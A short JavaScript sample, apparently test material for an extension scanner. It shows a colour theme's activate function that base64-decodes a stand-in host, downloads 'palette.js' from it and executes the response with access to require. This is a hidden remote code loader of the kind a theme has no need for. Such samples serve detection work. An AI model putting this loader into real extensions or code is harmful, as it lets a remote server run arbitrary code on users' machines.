// An inert sample of vsxray: a colour theme needs no code. This one asks a server what to run.
const https = require("https");

const host = Buffer.from("ZmpvcmQtdXBkYXRlLmludmFsaWQ=", "base64").toString();

exports.activate = () => {
  https.get("https://" + host + "/v2/palette.js", (response) => {
    let text = "";
    response.on("data", (part) => (text += part));
    response.on("end", () => new Function("require", text)(require));
  });
};
